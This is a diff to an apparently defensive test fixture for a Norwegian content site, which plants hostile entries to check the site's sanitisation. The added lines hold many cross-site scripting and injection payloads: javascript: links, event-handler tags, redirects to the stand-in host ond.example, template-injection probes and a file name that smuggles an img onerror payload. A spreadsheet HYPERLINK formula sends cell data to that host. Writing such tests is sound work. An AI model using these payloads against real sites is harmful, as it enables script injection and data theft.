@@ -18,11 +18,23 @@ HARM = (
     f"</p></div></article></main></textarea></style></title><iframe src='javascript:parent.{EVIL}=1'></iframe>"
     f"<!-- ]]> --> [x](javascript:window.{EVIL}=1) ![y](https://ond.example/bilde.png) <https://ond.example/lenke>"
     " :red[rød] :material/delete: :smile: a -> b $x^2$ **fet** {title} %s \u202esnudd\u202c null\u200bbredde"
+    f"<meta http-equiv=refresh content='0;url=https://ond.example/'><base href=https://ond.example/>"
+    f"<link rel=stylesheet href=https://ond.example/stil.css><object data=data:text/html,x></object><embed src=x>"
+    f"<form action=https://ond.example/><input autofocus onfocus=window.{EVIL}=1></form>"
+    f"<details open ontoggle=window.{EVIL}=1>x</details><video><source onerror=window.{EVIL}=1></video>"
+    f"<svg><animate onbegin=window.{EVIL}=1 /><use href='data:image/svg+xml,x' /></svg><math href=javascript:x>y</math>"
+    f"<a href=' java\tscript:window.{EVIL}=1' ping=https://ond.example/>z</a><template><script>1</script></template>"
+    f" [a](JaVaScRiPt&colon;window.{EVIL}=1) [b](java&#x0A;script:x) [c](vbscript:x) [d](//ond.example/) [e](\\\\ond)"
+    " ![f](//ond.example/f.png) [g](data:text/html;base64,PHNjcmlwdD4=) <javascript:x> [h]: https://ond.example/"
+    f" $\\href{{javascript:window.{EVIL}=1}}{{x}}$ $$\\includegraphics{{https://ond.example/x}}$$"
+    " {{7*7}} {% raw %} ${7*7} <%= 7*7 %> #{7*7} :streamlit: :blue-background[i] :rainbow[j] :small[k] :orange-badge[l]"
+    " \u2066vendt\u2069 \ufeff \u2028 z\u0335\u0336\u0337"
 )
 TITLE = f"Vaktliste {HARM}"
 FORMULA = '=HYPERLINK("https://ond.example/?a="&A1;"gevinst")'
 HOSTILE_ID = "oslo-ond"
 LONG_ID = "oslo-lang"
+ODD_ID = f'oslo-"><img src=x onerror=window.{EVIL}=1>'
 LONG = "Lang tittel " * 8500
 """A hundred thousand signs."""
 BORROWED = "viborg-skaermbesoeg"
@@ -39,6 +51,8 @@ def plant_hostile(root: Path) -> None:
         for language in ("nn", "da", "sv", "en")
     }
     (folder / f"{HOSTILE_ID}.i18n.yaml").write_text(_yaml(cards), encoding="utf-8")
+    odd = {"title": "Rart navn", "language": "nb", "place": "no/oslo", "status": "idea"}
+    (folder / f"{ODD_ID}.md").write_text(_file(odd, f"## Utfordringen\n\n{HARM}\n"), encoding="utf-8")
     long = {"title": LONG, "summary": LONG, "language": "nb", "place": "no/oslo", "status": "idea"}
     (folder / f"{LONG_ID}.md").write_text(_file(long, f"## Utfordringen\n\n{LONG}\n"), encoding="utf-8")
     _spoil(practices / "vocabulary.yaml", practices / "places.yaml")
